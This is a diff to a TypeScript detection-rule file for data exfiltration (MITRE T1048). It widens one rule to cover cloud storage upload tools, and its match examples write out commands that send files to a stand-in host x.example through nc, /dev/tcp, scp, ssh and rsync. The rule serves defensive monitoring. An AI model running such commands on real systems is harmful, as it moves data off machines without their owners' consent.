@@ -120,7 +120,7 @@ export const EXFIL_RULES: Rule[] = [
     category: 'exfiltration',
     action: 'record',
     attack: 'T1048',
-    description: 'A local file or piped data sent to another host over a raw channel: nc/ncat/socat/telnet, a redirect into /dev/tcp/HOST/PORT, scp/sftp/rsync to a remote destination, rclone to a remote, ssh HOST fed a file, ftp/tftp/smbclient put, openssl s_client, mail with an attachment (mail, Send-MailMessage).',
+    description: 'A local file or piped data sent to another host over a raw channel: nc/ncat/socat/telnet, a redirect into /dev/tcp/HOST/PORT, scp/sftp/rsync to a remote destination, cloud storage CLIs to a bucket (aws s3 cp/sync, gsutil/gcloud storage cp, az storage blob upload, azcopy, s3cmd, rclone), ssh HOST fed a file, ftp/tftp/smbclient put, openssl s_client, mail with an attachment (mail, Send-MailMessage).',
     help: 'Moves data off the machine outside the usual tooling. Check the file and the host.',
     examples: {
       match: ['nc x.example 4444 < /etc/hosts', "bash -c 'cat notes.txt > /dev/tcp/x.example/443'", 'scp ./dump.sql user@x.example:', "ssh x.example 'cat > x' < data.tar", 'rsync -r ./dir x.example:'],
